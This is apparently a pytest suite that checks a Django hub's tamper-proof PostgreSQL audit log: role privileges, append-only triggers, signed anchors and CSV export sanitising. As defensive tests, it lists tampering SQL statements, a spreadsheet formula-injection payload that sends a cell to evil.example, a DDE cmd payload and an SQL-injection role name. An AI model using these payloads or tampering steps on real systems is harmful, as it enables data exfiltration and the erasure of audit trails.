"""Issue 14, audit and exports: each test performs an attack on the real PostgreSQL and asserts it fails.

The hub connects as its runtime role (`hub_app`, no superuser); the audit tables belong to the NOLOGIN role
`hub_audit_owner`. Attacks with the runtime role must fail outright; what a superuser (a DBA-level attacker)
does to the tail of a chain must be detected by audit_verify through the signed anchors.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from datetime import timedelta
from pathlib import Path
from typing import Any

import psycopg
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from django.conf import settings
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import DatabaseError, connections, transaction
from django.test import RequestFactory
from django.utils import timezone

from apps.audit import signing
from apps.audit.chain import anchor_message, link_hash
from apps.audit.models import AuditAnchor, AuditCheckpoint, AuditEvent, PlatformAuditEvent
from apps.audit.selectors import audit_event_list, audit_verify_chain, audit_verify_export
from apps.audit.services import audit_anchor, audit_export, audit_purge, audit_record, audit_verify
from apps.audit.tasks import audit_anchor_all_task
from apps.core.context import as_ref, tenant_context
from apps.core.db_admin import admin_connection
from apps.policies.handlers import purge_audit_events
from apps.tenants.models import Tenant
from tests.fixtures.database import SuperuserSql

OWNER = settings.HUB_DB_AUDIT_OWNER_ROLE


def _record_many(tenant: Tenant, n: int) -> None:
    for i in range(n):
        audit_record("test.event", tenant=tenant, target_type="thing", target_id=i, target_label=f"thing {i}")


def _as_runtime_role(alias: str, *statements: str, params: Any = ()) -> None:
    """Run statements on the hub's own connection (its runtime role); the last one gets `params`."""
    with transaction.atomic(using=alias), connections[alias].cursor() as cursor:
        for statement in statements[:-1]:
            cursor.execute(statement)
        cursor.execute(statements[-1], params)


def _events(tenant: Tenant) -> list[tuple[int, str, str]]:
    with tenant_context(tenant):
        return list(AuditEvent.objects.order_by("seq").values_list("seq", "action", "hash"))


# --- the runtime role ---------------------------------------------------------------------------------------
@pytest.mark.django_db
def test_the_hub_connects_as_a_role_that_is_no_superuser_and_cannot_become_the_owner() -> None:
    for alias in settings.DATABASES:
        with connections[alias].cursor() as cursor:
            cursor.execute(
                "SELECT current_user, rolsuper, rolbypassrls, pg_has_role(current_user, %s, 'MEMBER') "
                "FROM pg_roles WHERE rolname = current_user",
                [OWNER],
            )
            role, superuser, bypassrls, member = cursor.fetchone()
        assert (superuser, bypassrls, member) == (False, False, False), alias
        assert role != OWNER
    with connections["region_eu"].cursor() as cursor:
        cursor.execute("SELECT pg_get_userbyid(relowner) FROM pg_class WHERE relname = 'audit_auditevent'")
        assert cursor.fetchone() == (OWNER,)


ATTACKS_ON_EVENTS = [
    # The old way in: the trigger let DELETE through when the session said so.
    pytest.param(
        ["SET hub.audit_purge = 'on'", "DELETE FROM audit_auditevent WHERE tenant_id = %s"], id="purge-flag"
    ),
    pytest.param(["DELETE FROM audit_auditevent WHERE tenant_id = %s"], id="delete"),
    pytest.param(["UPDATE audit_auditevent SET action = 'x' WHERE tenant_id = %s"], id="update"),
    pytest.param(["TRUNCATE audit_auditevent"], id="truncate"),
    pytest.param(["ALTER TABLE audit_auditevent DISABLE TRIGGER ALL"], id="disable-trigger"),
    pytest.param(["ALTER TABLE audit_auditevent OWNER TO CURRENT_USER"], id="take-ownership"),
    pytest.param([f"SET ROLE {OWNER}", "DELETE FROM audit_auditevent WHERE tenant_id = %s"], id="set-role"),
    pytest.param(
        [
            "CREATE OR REPLACE FUNCTION audit_reject_change() RETURNS trigger LANGUAGE plpgsql "
            "AS $$ BEGIN RETURN OLD; END $$",
            "DELETE FROM audit_auditevent WHERE tenant_id = %s",
        ],
        id="replace-trigger-function",
    ),
    pytest.param(
        [
            "CREATE OR REPLACE FUNCTION audit_purge(p_tenant bigint, p_before timestamptz) RETURNS bigint "
            "LANGUAGE sql AS $$ SELECT 0::bigint $$",
        ],
        id="replace-purge-function",
    ),
    # The old purge took any table; it is gone.
    pytest.param(
        ["SELECT audit_purge('audit_auditevent'::regclass, 'audit_auditcheckpoint'::regclass, 1, now())"],
        id="old-purge-signature",
    ),
    # Checkpoints are append-only too, and only the purge function writes them.
    pytest.param(["DELETE FROM audit_auditcheckpoint"], id="checkpoint-delete"),
    pytest.param(["UPDATE audit_auditcheckpoint SET hash_at_seq = 'x'"], id="checkpoint-update"),
    pytest.param(["TRUNCATE audit_auditcheckpoint"], id="checkpoint-truncate"),
    pytest.param(
        [
            "INSERT INTO audit_auditcheckpoint (tenant_id, purged_through_seq, hash_at_seq, purged_count, "
            "created_at) VALUES (%s, 1000, 'x', 1000, now())"
        ],
        id="checkpoint-insert",
    ),
]


@pytest.mark.django_db
@pytest.mark.parametrize("statements", ATTACKS_ON_EVENTS)
def test_the_runtime_role_cannot_remove_or_change_region_audit_records(
    tenant_a: Tenant, statements: list[str]
) -> None:
    _record_many(tenant_a, 3)
    before = _events(tenant_a)
    params = [tenant_a.id] if "%s" in statements[-1] else []
    with pytest.raises(DatabaseError, match=r"permission denied|must be owner|does not exist"):
        _as_runtime_role("region_eu", *statements, params=params)
    assert _events(tenant_a) == before
    assert audit_verify_chain(tenant=tenant_a).ok


ATTACKS_ON_CONTROL = [
    pytest.param(["SET hub.audit_purge = 'on'", "DELETE FROM audit_platformauditevent"], id="purge-flag"),
    pytest.param(["UPDATE audit_platformauditevent SET action = 'x'"], id="update"),
    pytest.param(["TRUNCATE audit_platformauditevent"], id="truncate"),
    pytest.param(["ALTER TABLE audit_platformauditevent DISABLE TRIGGER ALL"], id="disable-trigger"),
    pytest.param(["DELETE FROM audit_platformauditcheckpoint"], id="checkpoint-delete"),
    pytest.param(["DELETE FROM audit_auditanchor"], id="anchor-delete"),
    pytest.param(["UPDATE audit_auditanchor SET seq = 1"], id="anchor-update"),
    pytest.param(["TRUNCATE audit_auditanchor"], id="anchor-truncate"),
    pytest.param([f"SET ROLE {OWNER}", "DELETE FROM audit_auditanchor"], id="set-role"),
]


@pytest.mark.django_db
@pytest.mark.parametrize("statements", ATTACKS_ON_CONTROL)
def test_the_runtime_role_cannot_remove_or_change_platform_events_or_anchors(
    tenant_a: Tenant, alice: Any, statements: list[str]
) -> None:
    audit_record("login.succeeded", actor=alice)
    _record_many(tenant_a, 2)
    audit_anchor_all_task()
    before = (PlatformAuditEvent.objects.count(), list(AuditAnchor.objects.values_list("seq", "hash")))
    with pytest.raises(DatabaseError, match=r"permission denied|must be owner"):
        _as_runtime_role("default", *statements)
    assert (
        PlatformAuditEvent.objects.count(),
        list(AuditAnchor.objects.values_list("seq", "hash")),
    ) == before


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize(
    "statement",
    [
        "UPDATE audit_auditevent SET action = 'x'",
        "TRUNCATE audit_auditevent",
        "TRUNCATE audit_auditcheckpoint",
        "DELETE FROM audit_auditcheckpoint",
    ],
)
def test_the_guard_triggers_stop_even_the_owner_role(tenant_a: Tenant, statement: str) -> None:
    """Privileges aside: the owner role (NOLOGIN; audit_purge() runs as it) updates and truncates nothing."""
    _record_many(tenant_a, 2)
    cut = timezone.now()
    _record_many(tenant_a, 2)
    assert audit_purge(tenant=tenant_a, before=cut) == 3  # a checkpoint row to attack
    before = _events(tenant_a)

    def as_owner(conn: Any) -> None:
        with conn.transaction():
            conn.execute(f"SET LOCAL ROLE {OWNER}")
            conn.execute(statement)

    with (
        admin_connection("region_eu") as conn,
        pytest.raises(psycopg.errors.InsufficientPrivilege, match="append-only"),
    ):
        as_owner(conn)
    assert _events(tenant_a) == before
    with tenant_context(tenant_a):
        assert AuditCheckpoint.objects.count() == 1


# --- the legitimate purge -----------------------------------------------------------------------------------
@pytest.mark.django_db
def test_retention_purge_still_works_through_the_definer_function(tenant_a: Tenant) -> None:
    _record_many(tenant_a, 5)  # seq 2-6 after tenant.created
    cutoff = timezone.now()
    _record_many(tenant_a, 2)  # seq 7-8 stay
    audit_anchor(tenant=tenant_a)  # anchored at #8: the purge must not make the chain look truncated
    assert purge_audit_events(tenant=as_ref(tenant_a), cutoff=cutoff, batch_size=2) == 6
    assert [seq for seq, _, _ in _events(tenant_a)] == [7, 8]
    with tenant_context(tenant_a):
        assert list(
            AuditCheckpoint.objects.order_by("purged_through_seq").values_list(
                "purged_through_seq", flat=True
            )
        ) == [2, 4, 6]
    result = audit_verify_chain(tenant=tenant_a)
    assert (result.ok, result.checked) == (True, 2)
    assert audit_record("after.purge", tenant=tenant_a).seq == 9
    assert audit_verify_chain(tenant=tenant_a).ok


# --- anchors: what a superuser does to the tail is detected -------------------------------------------------
@pytest.mark.django_db(transaction=True)
def test_deleting_the_newest_events_is_detected_through_the_anchor(
    tenant_a: Tenant, superuser_sql: SuperuserSql, capsys: pytest.CaptureFixture[str]
) -> None:
    _record_many(tenant_a, 6)  # seq 1-7
    assert audit_anchor_all_task() == 1  # the beat task: tenant A's chain (the platform's is empty)
    assert AuditAnchor.objects.get(tenant_id=tenant_a.id).seq == 7
    audit_anchor_all_task()  # the head has not moved: no second anchor
    assert AuditAnchor.objects.filter(tenant_id=tenant_a.id).count() == 1
    deleted = superuser_sql(
        "region_eu",
        "DELETE FROM audit_auditevent WHERE tenant_id = %s AND seq > 4 RETURNING seq",
        [tenant_a.id],
    )
    assert len(deleted) == 3
    result = audit_verify_chain(tenant=tenant_a)  # the remaining #1-#4 still link: only the anchor tells
    assert (result.ok, result.kind, result.broken_seq) == (False, "truncated", 5)
    assert "#5 to #7 are missing" in result.reason
    with pytest.raises(CommandError, match="broken chain"):
        call_command("audit_verify", "--tenant", tenant_a.slug)
    assert "BROKEN at #5" in capsys.readouterr().out
    # Anchoring again does not bless the shorter chain.
    assert audit_anchor(tenant=tenant_a) is None
    assert not audit_verify_chain(tenant=tenant_a).ok


@pytest.mark.django_db(transaction=True)
def test_a_rewritten_tail_with_valid_hashes_is_detected(
    tenant_a: Tenant, superuser_sql: SuperuserSql
) -> None:
    _record_many(tenant_a, 4)  # seq 1-5
    anchor = audit_anchor(tenant=tenant_a)
    assert anchor is not None and anchor.seq == 5
    superuser_sql(
        "region_eu", "DELETE FROM audit_auditevent WHERE tenant_id = %s AND seq >= 4", [tenant_a.id]
    )
    # Re-append #4 and #5 with other content; the chain is unkeyed, so the hashes can be recomputed.
    prev = _events(tenant_a)[-1][2]
    for seq in (4, 5):
        event: dict[str, Any] = {
            "seq": seq,
            "tenant_id": tenant_a.id,
            "occurred_at": timezone.now(),
            "actor_id": None,
            "actor_label": "",
            "action": "innocent.event",
            "target_type": "",
            "target_id": "",
            "target_label": "",
            "changes": {},
            "ip": None,
            "user_agent": "",
            "request_id": "",
            "outcome": "success",
        }
        digest = link_hash(prev, event)
        superuser_sql(
            "region_eu",
            "INSERT INTO audit_auditevent (seq, tenant_id, occurred_at, actor_label, action, target_type, "
            "target_id, target_label, changes, user_agent, request_id, outcome, prev_hash, hash) "
            "VALUES (%s, %s, %s, '', 'innocent.event', '', '', '', '{}', '', '', 'success', %s, %s)",
            [seq, tenant_a.id, event["occurred_at"], prev, digest],
        )
        prev = digest
    result = audit_verify_chain(tenant=tenant_a)
    assert (result.ok, result.broken_seq, result.kind) == (False, 5, "modified")
    assert "anchored" in result.reason
    # Nor does anchoring bless the rewritten tail once it grows past the anchor.
    audit_record("later.event", tenant=tenant_a)
    assert audit_anchor(tenant=tenant_a) is None
    assert AuditAnchor.objects.filter(tenant_id=tenant_a.id).count() == 1
    assert audit_verify_chain(tenant=tenant_a).kind == "modified"


@pytest.mark.django_db
def test_a_forged_anchor_is_detected(tenant_a: Tenant) -> None:
    _record_many(tenant_a, 2)
    assert audit_verify_chain(tenant=tenant_a).ok
    # The runtime role may INSERT anchors; it cannot sign them with the hub's key.
    other_key = Ed25519PrivateKey.generate()
    now = timezone.now()
    message = anchor_message(tenant_id=tenant_a.id, seq=3, hash="f" * 64, anchored_at=now)
    AuditAnchor.objects.create(
        tenant_id=tenant_a.id,
        seq=3,
        hash="f" * 64,
        anchored_at=now,
        public_key=signing.public_key_b64(),
        signature=base64.b64encode(other_key.sign(message)).decode(),
    )
    result = audit_verify_chain(tenant=tenant_a)
    assert (result.ok, result.kind, result.broken_seq) == (False, "forged", 3)
    # An anchor signed by the hub for another chain does not transfer either.
    tenant_b_anchor = signing.sign(
        anchor_message(tenant_id=tenant_a.id + 1, seq=3, hash="f" * 64, anchored_at=now)
    )
    AuditAnchor.objects.create(
        tenant_id=tenant_a.id, seq=4, hash="f" * 64, anchored_at=now, public_key="", signature=tenant_b_anchor
    )
    assert audit_verify_chain(tenant=tenant_a).kind == "forged"


@pytest.mark.django_db
def test_verification_anchors_an_intact_chain_and_the_export_carries_the_anchor(
    tenant_a: Tenant, alice: Any, tmp_path: Path
) -> None:
    _record_many(tenant_a, 2)  # seq 1-4 (tenant.created, member.added)
    assert audit_verify(tenant=tenant_a, actor=alice).ok
    assert AuditAnchor.objects.filter(tenant_id=tenant_a.id).values_list("seq", flat=True).get() == 4
    with tenant_context(tenant_a):
        data = audit_export(tenant=tenant_a, events=audit_event_list(), fmt="jsonl", actor=alice)
    path = tmp_path / "export.zip"
    path.write_bytes(data)
    with zipfile.ZipFile(path) as zf:
        manifest = json.loads(zf.read("manifest.json"))
    newest = AuditAnchor.objects.filter(tenant_id=tenant_a.id).first()
    assert newest is not None and newest.seq == 5  # audit.verified moved the head; the export anchored it
    assert {k: manifest["anchor"][k] for k in ("tenant_id", "seq", "hash", "signature")} == {
        "tenant_id": tenant_a.id,
        "seq": 5,
        "hash": newest.hash,
        "signature": newest.signature,
    }
    assert audit_verify_export(path).ok


# --- CSV formula injection ----------------------------------------------------------------------------------
FORMULA_AGENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.mark.django_db
def test_csv_export_neutralises_formulas_and_still_verifies(
    tenant_a: Tenant, alice: Any, tmp_path: Path
) -> None:
    request = RequestFactory().post("/x", HTTP_USER_AGENT=FORMULA_AGENT, REMOTE_ADDR="10.0.0.1")
    audit_record(
        "login.succeeded", tenant=tenant_a, actor=alice, request=request, target_label="+cmd|' /C calc'!A0"
    )
    for label in ("-2+3", "@SUM(1,1)", "\tTAB", "\rCR", "'quoted", "plain"):
        audit_record("thing.renamed", tenant=tenant_a, target_label=label)
    with tenant_context(tenant_a):
        data = audit_export(tenant=tenant_a, events=audit_event_list(), fmt="csv", actor=alice)
    path = tmp_path / "export.csv.zip"
    path.write_bytes(data)
    with zipfile.ZipFile(path) as zf:
        manifest = json.loads(zf.read("manifest.json"))
        rows = list(csv.DictReader(io.StringIO(zf.read(manifest["file"]).decode())))
    cells = [value for row in rows for value in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + FORMULA_AGENT in cells
    assert {"'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1,1)", "'\tTAB", "'\rCR", "''quoted", "plain"} <= set(
        cells
    )
    result = audit_verify_export(path)
    assert (result.ok, result.checked) == (True, len(rows))
    call_command("audit_verify", "--export", str(path))


def test_anchor_beat_schedule_is_configured() -> None:
    entry = settings.CELERY_BEAT_SCHEDULE["audit-anchor"]
    assert entry["task"] == audit_anchor_all_task.name
    assert entry["schedule"] == float(settings.HUB_AUDIT_ANCHOR_SECONDS) == 300.0
    assert timedelta(seconds=entry["schedule"]) <= timedelta(hours=1)


# --- the DBA's side -----------------------------------------------------------------------------------------
@pytest.mark.django_db
def test_db_roles_prints_the_sql_for_a_dba_and_grants_no_delete(capsys: pytest.CaptureFixture[str]) -> None:
    call_command("db_roles", "--print-sql", "--runtime-role", "hub_rt")
    sql = capsys.readouterr().out
    assert 'GRANT SELECT, INSERT ON public.audit_auditevent TO "hub_rt";' in sql
    assert 'ALTER FUNCTION public.audit_purge(bigint, timestamptz) OWNER TO "hub_audit_owner";' in sql
    assert 'GRANT EXECUTE ON FUNCTION public.audit_purge(bigint, timestamptz) TO "hub_rt";' in sql
    assert "DELETE" not in sql and "TRUNCATE" not in sql and "UPDATE" not in sql


@pytest.mark.django_db(transaction=True)
def test_db_roles_applies_idempotently_and_leaves_the_runtime_role_unprivileged(tenant_a: Tenant) -> None:
    from apps.audit.roles import audit_roles_unprotected

    call_command("db_roles")
    for alias in settings.DATABASES:
        assert not audit_roles_unprotected(alias=alias)
    with pytest.raises(DatabaseError, match="permission denied"):
        _as_runtime_role("region_eu", "DELETE FROM audit_auditevent")


@pytest.mark.django_db(transaction=True)
def test_an_export_kept_elsewhere_still_catches_a_truncation_when_the_anchors_are_gone_too(
    tenant_a: Tenant, alice: Any, tmp_path: Path, superuser_sql: SuperuserSql
) -> None:
    _record_many(tenant_a, 3)  # seq 1-5
    with tenant_context(tenant_a):
        data = audit_export(tenant=tenant_a, events=audit_event_list(), fmt="jsonl", actor=alice)
    path = tmp_path / "export.zip"
    path.write_bytes(data)
    # A superuser removes the tail (#4 onwards, the export's own audit event included) and every anchor.
    superuser_sql(
        "region_eu", "DELETE FROM audit_auditevent WHERE tenant_id = %s AND seq >= 4", [tenant_a.id]
    )
    superuser_sql("default", "DELETE FROM audit_auditanchor WHERE tenant_id = %s", [tenant_a.id])
    assert audit_verify_chain(tenant=tenant_a).ok  # nothing left in the database to tell
    call_command("audit_verify", "--tenant", tenant_a.slug)
    with pytest.raises(CommandError, match="broken chain"):
        call_command("audit_verify", "--tenant", tenant_a.slug, "--anchors-from", str(path))
    with pytest.raises(CommandError, match="needs --tenant"):
        call_command("audit_verify", "--anchors-from", str(path))


def _settings_in_subprocess(env: dict[str, str], code: str) -> subprocess.CompletedProcess[str]:
    clean = {k: v for k, v in os.environ.items() if not k.startswith(("DJANGO_", "DATABASE_", "REGION_"))}
    base = {
        "DJANGO_SETTINGS_MODULE": "hub.settings.test",
        "DATABASE_URL": "postgres://hub_app:pw@127.0.0.1:5432/hub_control",
        "REGION_EU_DATABASE_URL": "postgres://hub_app:pw@127.0.0.1:5432/hub_eu",
        "REGION_US_DATABASE_URL": "postgres://hub_app:pw@127.0.0.1:5432/hub_us",
    }
    return subprocess.run(
        [sys.executable, "-c", f"import django; django.setup(); from django.conf import settings; {code}"],
        cwd=Path(__file__).resolve().parents[2],
        env={**clean, **base, **env},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def test_admin_urls_are_read_per_alias_and_malformed_values_fail_loudly() -> None:
    show = "print(sorted(settings.HUB_DATABASE_ADMIN), settings.HUB_DATABASE_ADMIN['default']['USER'])"
    result = _settings_in_subprocess(
        {
            "DATABASE_ADMIN_URL": "postgres://dba:secret@10.0.0.5:5432/hub_control",
            "REGION_EU_DATABASE_ADMIN_URL": "postgres://dba:secret@10.0.0.6:5432/hub_eu",
        },
        show,
    )
    assert result.stdout.split() == ["['default',", "'region_eu']", "dba"], result.stderr
    assert _settings_in_subprocess({}, "print(settings.HUB_DATABASE_ADMIN)").stdout.strip() == "{}"
    bad_url = _settings_in_subprocess({"DATABASE_ADMIN_URL": "mysql://dba:secret@h/db"}, show)
    assert bad_url.returncode != 0 and "Setting DATABASE_ADMIN_URL" in bad_url.stderr
    assert "secret" not in bad_url.stderr
    bad_role = _settings_in_subprocess({"HUB_DB_AUDIT_OWNER_ROLE": 'x"; DROP TABLE y; --'}, show)
    assert bad_role.returncode != 0 and "Setting HUB_DB_AUDIT_OWNER_ROLE" in bad_role.stderr


@pytest.mark.django_db
def test_anchors_of_a_previous_signing_key_verify_only_while_that_key_is_trusted(
    tenant_a: Tenant, settings: Any
) -> None:
    _record_many(tenant_a, 1)
    old_public = signing.public_key_b64()
    assert audit_anchor(tenant=tenant_a) is not None
    settings.HUB_AUDIT_SIGNING_KEY = base64.b64encode(b"\x07" * 32).decode()
    signing.signing_key.cache_clear()
    try:
        assert signing.public_key_b64() != old_public
        assert audit_verify_chain(tenant=tenant_a).kind == "forged"
        settings.HUB_AUDIT_PREVIOUS_PUBLIC_KEYS = [old_public]
        assert audit_verify_chain(tenant=tenant_a).ok
    finally:
        signing.signing_key.cache_clear()


@pytest.mark.django_db(transaction=True)
def test_a_later_audit_migration_runs_as_the_runtime_role_and_the_tables_are_locked_again() -> None:
    """migrate hands the audit objects to the runtime role while audit migrations run, then locks them."""

    def owner_of(table: str) -> str:
        with connections["region_eu"].cursor() as cursor:
            cursor.execute("SELECT pg_get_userbyid(relowner) FROM pg_class WHERE relname = %s", [table])
            return str(cursor.fetchone()[0])

    call_command("migrate", "audit", "0002", database="region_eu", verbosity=0)
    try:
        assert owner_of("audit_auditevent") == OWNER
        # 0003 drops and creates triggers: only the owner may, so this fails unless migrate hands it back.
        call_command("migrate", database="region_eu", verbosity=0)
    finally:
        call_command("migrate", database="region_eu", verbosity=0)
    assert owner_of("audit_auditevent") == OWNER
    with pytest.raises(DatabaseError, match="permission denied"):
        _as_runtime_role("region_eu", "TRUNCATE audit_auditevent")


@pytest.mark.django_db(transaction=True)
def test_migrate_adopts_tables_an_admin_run_migrate_left_behind() -> None:
    """Data from a migrate run as the superuser becomes the runtime role's: later migrations keep working."""
    from apps.core.db_admin import db_prepare

    with admin_connection("region_eu") as conn:
        conn.execute("CREATE TABLE public.legacy_made_by_admin (id bigint GENERATED BY DEFAULT AS IDENTITY)")
    try:
        assert db_prepare(alias="region_eu")
        with connections["region_eu"].cursor() as cursor:
            cursor.execute(
                "SELECT pg_get_userbyid(relowner) = current_user FROM pg_class WHERE relname = "
                "'legacy_made_by_admin'"
            )
            assert cursor.fetchone() == (True,)
            cursor.execute(
                "SELECT pg_get_userbyid(relowner) FROM pg_class WHERE relname = 'audit_auditevent'"
            )
            assert cursor.fetchone() == (OWNER,)  # the audit tables are not the admin's: untouched
    finally:
        with admin_connection("region_eu") as conn:
            conn.execute("DROP TABLE public.legacy_made_by_admin")
